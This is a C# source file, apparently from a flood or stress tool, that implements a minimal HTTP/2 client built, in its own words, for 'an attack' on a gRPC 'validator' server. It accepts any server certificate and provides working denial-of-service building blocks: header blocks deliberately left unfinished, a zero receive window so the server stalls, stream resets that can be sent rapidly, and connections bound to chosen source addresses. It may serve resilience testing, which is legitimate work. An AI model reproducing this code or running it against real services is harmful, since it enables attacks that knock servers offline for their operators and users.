using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace CityConsortium.Nemesis.Flood;

/// <summary>
/// HTTP/2 (RFC 9113) by hand over one TLS connection: as cheap as it gets, and free to do what no library would. Only the
/// frames that an attack needs; headers as literals without an index (RFC 7541, 6.2.2).
/// </summary>
internal sealed class HostileLine : IAsyncDisposable
{
    private const int DefaultWindow = 65_535;
    private const int LargestFrame = 16 * 1024;
    private const int FrameHeader = 9;

    private readonly SslStream _tls;
    private readonly SemaphoreSlim _writing = new(1);
    private readonly Lock _gate = new();
    private readonly bool _grants;
    private int _initialWindow = DefaultWindow;
    private long _window = DefaultWindow;
    private long _streamWindow = DefaultWindow;
    private uint _nextStream = 1;

    private HostileLine(SslStream tls, bool grants)
    {
        _tls = tls;
        _grants = grants;
    }

    /// <summary>Streams that the server ended, by trailers or by a reset.</summary>
    public int Ended { get; private set; }

    /// <param name="from">The local address to come from.</param>
    /// <param name="grants">Whether the server may send data: a client that does not read grants it no byte (SETTINGS_INITIAL_WINDOW_SIZE = 0).</param>
    public static async Task<HostileLine> OpenAsync(IPEndPoint to, IPAddress from, bool grants, CancellationToken stopping)
    {
        var socket = await ConnectAsync(to, from, stopping);
        var tls = new SslStream(new NetworkStream(socket, ownsSocket: true));
        try
        {
            await tls.AuthenticateAsClientAsync(
                new SslClientAuthenticationOptions
                {
                    TargetHost = "validator",
                    ApplicationProtocols = [SslApplicationProtocol.Http2],
                    // It hardly asks whom it talks to: its owner means no good.
                    RemoteCertificateValidationCallback = (_, certificate, _, _) => certificate is not null,
                },
                stopping);
            var line = new HostileLine(tls, grants);
            var window = grants ? 1 << 20 : 0;
            await line.WriteAsync([.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(4, 0, 0, [0, 4, .. Number(window)])], stopping);
            return line;
        }
        catch
        {
            await tls.DisposeAsync();
            throw;
        }
    }

    public static async Task<Socket> ConnectAsync(IPEndPoint to, IPAddress from, CancellationToken stopping)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        try
        {
            socket.Bind(new IPEndPoint(from, 0));
            await socket.ConnectAsync(to, stopping);
            return socket;
        }
        catch
        {
            socket.Dispose();
            throw;
        }
    }

    /// <summary>Opens a call's stream; with a body it is a whole unary request.</summary>
    /// <returns>The stream's number.</returns>
    public async Task<uint> CallAsync(string path, ReadOnlyMemory<byte>? body, CancellationToken stopping, bool gzip = false)
    {
        var stream = _nextStream;
        _nextStream += 2;
        Interlocked.Exchange(ref _streamWindow, Volatile.Read(ref _initialWindow));
        var headers = Frame(1, 4, stream, HeadersOf(path, gzip));
        await WriteAsync(body is { } message ? [.. headers, .. Frame(0, 1, stream, message.Span)] : headers, stopping);
        return stream;
    }

    /// <summary>The beginning of a header block whose rest never comes.</summary>
    public Task HalfHeadersAsync(CancellationToken stopping) => WriteAsync(Frame(1, 0, 1, HeadersOf("/x", gzip: false).AsSpan(0, 12)), stopping);

    public Task ResetAsync(uint stream, CancellationToken stopping) => WriteAsync(Frame(3, 0, stream, Number(8)), stopping);

    /// <returns>Whether the server's flow control lets so many bytes through now; then they count as sent.</returns>
    public bool TryTake(int bytes)
    {
        lock (_gate)
        {
            if (_window < bytes || _streamWindow < bytes) return false;
            _window -= bytes;
            _streamWindow -= bytes;
            return true;
        }
    }

    /// <param name="message">At most 16 KiB, taken by <see cref="TryTake"/> before.</param>
    public Task DataAsync(uint stream, ReadOnlyMemory<byte> message, CancellationToken stopping) => WriteAsync(Frame(0, 0, stream, message.Span), stopping);

    /// <summary>Reads until the server closes the connection; data goes to <paramref name="onData"/> in order.</summary>
    public async Task ReadAsync(Action<ReadOnlySpan<byte>>? onData, CancellationToken stopping)
    {
        var buffer = new byte[FrameHeader + LargestFrame];
        while (true)
        {
            if (await _tls.ReadAtLeastAsync(buffer.AsMemory(0, FrameHeader), FrameHeader, throwOnEndOfStream: false, stopping) < FrameHeader) return;
            var length = (buffer[0] << 16) | (buffer[1] << 8) | buffer[2];
            if (length > LargestFrame) return;
            await _tls.ReadExactlyAsync(buffer.AsMemory(FrameHeader, length), stopping);
            await TakeFrameAsync(buffer[3], buffer[4], BinaryPrimitives.ReadUInt32BigEndian(buffer.AsSpan(5)), buffer.AsMemory(FrameHeader, length), onData, stopping);
        }
    }

    public ValueTask DisposeAsync()
    {
        _writing.Dispose();
        return _tls.DisposeAsync();
    }

    private async Task TakeFrameAsync(byte type, byte flags, uint stream, ReadOnlyMemory<byte> payload, Action<ReadOnlySpan<byte>>? onData, CancellationToken stopping)
    {
        switch (type)
        {
            case 0: // DATA
                onData?.Invoke(payload.Span);
                if (payload.Length > 0 && _grants) await WriteAsync([.. Frame(8, 0, 0, Number(payload.Length)), .. Frame(8, 0, stream, Number(payload.Length))], stopping);
                if ((flags & 1) != 0) Ended++;
                break;
            case 1 when (flags & 1) != 0: // HEADERS that end the stream
            case 3: // RST_STREAM
                Ended++;
                break;
            case 4 when (flags & 1) == 0: // SETTINGS
                TakeSettings(payload.Span);
                await WriteAsync(Frame(4, 1, 0, []), stopping);
                break;
            case 6 when (flags & 1) == 0: // PING
                await WriteAsync(Frame(6, 1, 0, payload.Span), stopping);
                break;
            case 8: // WINDOW_UPDATE
                var more = BinaryPrimitives.ReadUInt32BigEndian(payload.Span);
                lock (_gate)
                {
                    if (stream == 0) _window += more;
                    else _streamWindow += more;
                }

                break;
        }
    }

    private void TakeSettings(ReadOnlySpan<byte> settings)
    {
        for (; settings.Length >= 6; settings = settings[6..])
        {
            if (BinaryPrimitives.ReadUInt16BigEndian(settings) != 4) continue;
            var initial = BinaryPrimitives.ReadInt32BigEndian(settings[2..]);
            lock (_gate)
            {
                _streamWindow += initial - _initialWindow;
                _initialWindow = initial;
            }
        }
    }

    private async Task WriteAsync(byte[] bytes, CancellationToken stopping)
    {
        await _writing.WaitAsync(stopping);
        try
        {
            await _tls.WriteAsync(bytes, stopping);
        }
        finally
        {
            _writing.Release();
        }
    }

    private static byte[] Frame(byte type, byte flags, uint stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[FrameHeader + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, (payload.Length << 8) | type);
        frame[4] = flags;
        BinaryPrimitives.WriteUInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(FrameHeader));
        return frame;
    }

    private static byte[] HeadersOf(string path, bool gzip) =>
    [
        0x83, 0x87, // :method POST, :scheme https
        .. Literal(":path", path), .. Literal(":authority", "validator"), .. Literal("content-type", "application/grpc"), .. Literal("te", "trailers"),
        .. gzip ? Literal("grpc-encoding", "gzip") : [],
    ];

    private static byte[] Literal(string name, string value) => [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    private static byte[] Number(int number)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, number);
        return bytes;
    }
}
